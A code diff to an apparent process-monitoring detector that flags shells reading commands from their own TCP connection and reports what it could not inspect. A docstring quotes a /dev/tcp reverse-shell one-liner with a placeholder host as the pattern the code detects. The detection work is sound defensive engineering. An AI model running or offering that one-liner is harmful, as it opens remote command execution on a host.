@@ -48,8 +48,11 @@ _SHELLS = tuple(
 _BASH_SCRIPT = 255
 
 
-def signs(process: Process, host: Host, around: Surroundings) -> t.Iterator[Sign]:
-    """Yield what is wrong with where an interpreter has its program from, at most one thing."""
+def signs(process: Process, host: Host, around: Surroundings, skip: t.Callable[[str], None]) -> t.Iterator[Sign]:
+    """Yield what is wrong with where an interpreter has its program from, at most one thing.
+
+    skip: takes what could not be looked at.
+    """
     spoken = programs.language(process)
     if not process.files:
         return
@@ -71,6 +74,11 @@ def signs(process: Process, host: Host, around: Surroundings) -> t.Iterator[Sign
     )
     if found is not None:
         yield found
+    between = streams.of(host, around)
+    if process.pid in between.unfollowed and (found is None or found.subtype != "shell_on_connection"):
+        skip("what its streams lead to are more processes than are looked at")
+    if any(file.descriptor == 0 and between.is_unknown(process, file) for file in process.files):
+        skip("what its input leads to can't be told: the kernel doesn't tell what sockets are connected")
 
 
 def _targets(process: Process) -> dict[int, bytes]:
@@ -325,7 +333,7 @@ def _with_a_connection_of_its_own(
     """Return what a shell is that has a connection which nothing but shells has: it can read commands from that.
 
     "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". What is left open by a program that
-    starts a shell is that program's as well.
+    starts a shell is that program's as well, and what the shell has started has the shell's.
     """
     if not programs.is_shell(spoken):
         return None
@@ -334,7 +342,8 @@ def _with_a_connection_of_its_own(
         name = b"socket:[%d]" % one.inode
         if name not in held or one.remote is None or not one.protocol.startswith("tcp"):
             continue
-        others = (other for other in host.processes.values() if any(file.target == name for file in other.files))
+        earlier = (one for one in host.processes.values() if (one.started, one.pid) <= (process.started, process.pid))
+        others = (other for other in earlier if any(file.target == name for file in other.files))
         languages = (programs.language(other) for other in others)
         if all(language is not None and programs.is_shell(language) for language in languages):
             detail = "%s has a connection of its own with %s, port %d" % (
